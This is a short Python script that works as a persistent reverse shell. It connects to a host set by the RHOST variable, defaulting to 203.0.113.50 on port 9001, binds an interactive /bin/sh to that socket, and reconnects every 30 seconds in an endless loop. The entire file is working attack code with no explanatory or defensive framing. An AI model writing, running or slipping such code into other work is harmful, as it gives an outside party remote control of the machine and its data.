import os
import socket
import subprocess
import time


class Session:
    def __init__(self, host, port):
        self.addr = (host, port)
        self.conn = None

    def open(self):
        self.conn = socket.create_connection(self.addr)
        return self.conn

    def serve(self):
        fd = self.conn.fileno()
        subprocess.call(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)


def main():
    host = os.environ.get("RHOST", "203.0.113.50")
    port = int(os.environ.get("RPORT", "9001"))
    while True:
        s = Session(host, port)
        try:
            s.open()
            s.serve()
        except OSError:
            time.sleep(30)


main()
